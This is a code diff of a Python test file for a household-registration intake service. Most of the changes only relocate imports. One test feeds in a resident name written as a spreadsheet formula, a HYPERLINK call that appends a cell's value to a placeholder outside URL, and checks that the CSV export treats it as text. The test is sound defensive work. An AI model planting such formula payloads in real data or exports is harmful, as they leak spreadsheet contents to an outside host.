@@ -5,11 +5,11 @@ from typing import Any
 
 import httpx
 import pytest
-from intake_procedure import CADRE, declare, ok, sign_consent
-from intake_testkit import TOWNSHIP_A, VILLAGE_A, headers, household_body, member, register
 
 from common.logging import configure_logging, format_exc_redacted
-from common.testing.fixtures import TopicReader, resident_id
+from devkit.kit.households import TOWNSHIP_A, VILLAGE_A, headers, household_body, member, register
+from devkit.kit.identification import CADRE, declare, ok, sign_consent
+from devkit.testing.fixtures import TopicReader, resident_id
 from intake.config import settings
 
 ZHONGKAI_CADRE = headers("village_cadre", "441302", sub="cadre-huizhou")
@@ -93,7 +93,7 @@ async def test_revisions_are_an_audited_read(client: httpx.AsyncClient) -> None:
 
 
 async def test_a_name_written_as_a_formula_is_text_in_the_csv(client: httpx.AsyncClient) -> None:
-    from intake_procedure import to_notice
+    from devkit.kit.identification import to_notice
 
     formula = '=HYPERLINK("http://x.example/?"&A1,"点击")'
     household = await register(client, members=[member(name=formula), member("spouse")])
